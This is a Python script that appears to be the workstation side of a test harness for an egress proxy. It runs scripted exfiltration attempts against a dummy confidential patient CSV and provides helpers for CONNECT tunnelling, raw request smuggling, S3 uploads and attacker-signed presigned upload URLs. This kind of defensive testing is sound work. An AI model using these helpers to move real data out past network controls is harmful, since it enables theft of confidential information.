#!/usr/bin/python3
"""The workstation's half of the tour: makes one attempt of attempts.yaml by the tools that a person
would use, and says in JSON what they said.

usage: tour.py try NUMBER             the attempt's commands, and its legitimate twin's
       tour.py connect HOST:PORT      a tunnel from its input and output to HOST, for ssh
       tour.py raw HOST HEAD          sends these bytes to the gate, or where there is none to HOST
       tour.py put-object [--path-style] BUCKET FILE
       tour.py presign BUCKET         a URL by which anybody may write there, signed by the attacker

Environment: https_proxy says where the gate is; without it every attempt goes straight to its host.
"""
import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import urllib.parse

import yaml

import aws_keys

HERE = os.path.dirname(os.path.abspath(__file__))
REGION = "us-east-1"
SECONDS = 40
SECRET = "patient,diagnosis\n" + "".join(f"{number},confidential\n" for number in range(20))


def gate():
    """Host and port of the proxy; None without one."""
    url = urllib.parse.urlsplit(os.environ.get("https_proxy", ""))
    return (url.hostname, url.port) if url.hostname else None


def attempts():
    with open(f"{HERE}/attempts.yaml", encoding="utf-8") as file:
        return yaml.safe_load(file)


def s3_client(key=None, path_style=False):
    import boto3  # pylint: disable=import-outside-toplevel  # half a second that few commands need
    from botocore.config import Config  # pylint: disable=import-outside-toplevel

    held = {}
    if key:
        held = {"aws_access_key_id": key.id, "aws_secret_access_key": key.secret}
    style = {"addressing_style": "path" if path_style else "virtual"}
    endpoint = f"https://s3.{REGION}.amazonaws.com"
    config = Config(s3=style, signature_version="s3v4", retries={"max_attempts": 1})
    return boto3.client("s3", region_name=REGION, endpoint_url=endpoint, config=config, **held)


def variables():
    """What the commands find in their environment."""
    via = gate()
    key = {**aws_keys.FOREIGN_KEY.variables, "AWS_SESSION_TOKEN": ""}
    return {
        **os.environ,
        "AWS_DEFAULT_REGION": REGION,
        "ATTACKER_KEY": " ".join(f"{name}={value}" for name, value in key.items()),
        "TOUR": os.path.abspath(__file__),
        "VIA": f"-proxy {via[0]}:{via[1]}" if via else "",
    }


def run(command, environment, folder):
    """What was said."""
    try:
        done = subprocess.run(
            ["bash", "-c", command],
            env=environment,
            cwd=folder,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            timeout=SECONDS,
            check=False,
        )
    except subprocess.TimeoutExpired:
        return f"nothing within {SECONDS} s"
    return done.stdout.decode("utf-8", "replace").strip()


def make_attempt(number):
    """What each try's tool said, and that of the twin."""
    attempt, environment = attempts()[number - 1], variables()
    with tempfile.TemporaryDirectory() as folder:
        with open(f"{folder}/secret.csv", "w", encoding="ascii") as file:
            file.write(SECRET)
        commands = [each["run"] for each in attempt["tries"]] + [attempt["twin"]]
        *tries, twin = [run(command, environment, folder) for command in commands]
    return {"tries": tries, "twin": twin}


def dial(authority):
    """A tunnel by the gate, or a connection where there is none."""
    via = gate()
    if not via:
        host, _, port = authority.rpartition(":")
        return socket.create_connection((host, int(port)), 10)
    connection = socket.create_connection(via, 10)
    connection.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    head = connection.recv(4096)
    if b" 200 " not in head.partition(b"\r\n")[0]:
        sys.exit(head.partition(b"\r\n")[0].decode("latin-1"))
    return connection


def connect(authority):
    connection = dial(authority)
    connection.settimeout(10)

    def upwards():
        while data := os.read(0, 65536):
            connection.sendall(data)

    threading.Thread(target=upwards, daemon=True).start()
    while data := connection.recv(65536):
        os.write(1, data)


def raw(host, head):
    connection = socket.create_connection(gate() or (host, 443), 10)
    connection.settimeout(5)
    connection.sendall(head.encode().decode("unicode_escape").encode("latin-1"))
    print(connection.recv(4096).decode("latin-1"))


def put_object(*arguments):
    from botocore.exceptions import ClientError  # pylint: disable=import-outside-toplevel

    bucket, path = arguments[-2:]
    client = s3_client(path_style="--path-style" in arguments)
    try:
        with open(path, "rb") as file:
            client.put_object(Bucket=bucket, Key=os.path.basename(path), Body=file.read())
    except ClientError as error:
        sys.exit(str(error))


def presign(bucket):
    target = {"Bucket": bucket, "Key": "secret.csv"}
    client = s3_client(aws_keys.FOREIGN_KEY, path_style=True)
    print(client.generate_presigned_url("put_object", target, ExpiresIn=600))


def main(command, *arguments):
    if command == "try":
        json.dump(make_attempt(int(arguments[0])), sys.stdout)
    else:
        does = {"connect": connect, "raw": raw, "put-object": put_object, "presign": presign}
        does[command](*arguments)


if __name__ == "__main__":
    main(*sys.argv[1:])
